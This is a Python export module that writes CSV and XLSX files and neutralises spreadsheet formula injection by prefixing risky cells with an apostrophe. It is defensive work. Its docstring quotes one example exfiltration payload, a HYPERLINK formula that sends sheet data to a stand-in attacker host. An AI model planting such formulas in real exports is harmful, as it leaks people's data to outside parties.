"""Spreadsheets out of the platform: the one way to write a CSV or XLSX export.

A cell whose text starts with =, +, -, @, a tab or a carriage return is run as a formula by
Excel and LibreOffice (`=HYPERLINK("http://evil.example/?"&A1,"klik")` as someone's name would
send the sheet's data away on a click). Every cell of every export goes through `cell()`, which
puts an apostrophe before such text, as OWASP advises; numbers and dates passed as real numbers
and dates stay what they are. CSV is written the way Dutch Excel opens it by double-click:
UTF-8 with a byte-order mark, semicolons, CRLF.
"""

import csv
import io
from collections.abc import Iterable, Sequence
from datetime import date, datetime, time
from decimal import Decimal

from openpyxl import Workbook
from openpyxl.styles import Font
from openpyxl.utils import get_column_letter

FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
Row = Sequence[object]
SHEET_TITLE_MAX = 31


def sheet_title(title: str) -> str:
    """Excel allows 31 characters and none of []:*?/\\ in a sheet title; a longer title is cut
    after its last whole word that fits, not in the middle of one."""
    clean = " ".join("".join(ch for ch in title if ch not in "[]:*?/\\").split())
    if len(clean) > SHEET_TITLE_MAX:
        cut = clean[: SHEET_TITLE_MAX + 1].rsplit(" ", 1)[0]
        # One word longer than the limit has no boundary to cut at.
        clean = cut if " " in clean[: SHEET_TITLE_MAX + 1] else clean[:SHEET_TITLE_MAX]
    return clean.rstrip(" -–,·") or "Export"


def cell(value: object) -> object:
    """One cell, safe for a spreadsheet: text that would start a formula gets an apostrophe."""
    if value is None:
        return ""
    if isinstance(value, int | float | Decimal | date | datetime | time):
        return value
    text = str(value)
    return "'" + text if text.startswith(FORMULA_START) else text


def csv_bytes(headers: Row, rows: Iterable[Row]) -> bytes:
    buffer = io.StringIO()
    writer = csv.writer(buffer, delimiter=";", lineterminator="\r\n")
    writer.writerow([cell(h) for h in headers])
    writer.writerows([cell(value) for value in row] for row in rows)
    return buffer.getvalue().encode("utf-8-sig")


def xlsx_bytes(headers: Row, rows: Sequence[Row], title: str) -> bytes:
    """One sheet: bold headers, frozen first row, columns as wide as their text (up to 60)."""
    workbook = Workbook()
    sheet = workbook.active
    sheet.title = sheet_title(title)
    sheet.append([cell(h) for h in headers])
    for row in rows:
        sheet.append([cell(value) for value in row])
    for header_cell in sheet[1]:
        header_cell.font = Font(bold=True)
    sheet.freeze_panes = "A2"
    for index, header in enumerate(headers, start=1):
        longest = max([len(str(header))] + [len(str(r[index - 1])) for r in rows])
        sheet.column_dimensions[get_column_letter(index)].width = min(max(longest + 2, 10), 60)
    buffer = io.BytesIO()
    workbook.save(buffer)
    return buffer.getvalue()
